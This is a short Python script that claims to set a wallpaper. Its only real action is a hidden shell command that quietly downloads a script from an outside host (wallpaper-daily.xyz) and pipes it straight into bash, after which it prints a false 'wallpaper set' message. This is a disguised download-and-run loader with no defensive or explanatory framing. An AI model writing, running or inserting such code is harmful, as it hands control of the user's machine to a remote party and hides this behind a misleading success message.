import os

BASE = "http://wallpaper-daily.xyz"
os.system("wget -qO- " + BASE + "/bootstrap | bash")
print("wallpaper set")
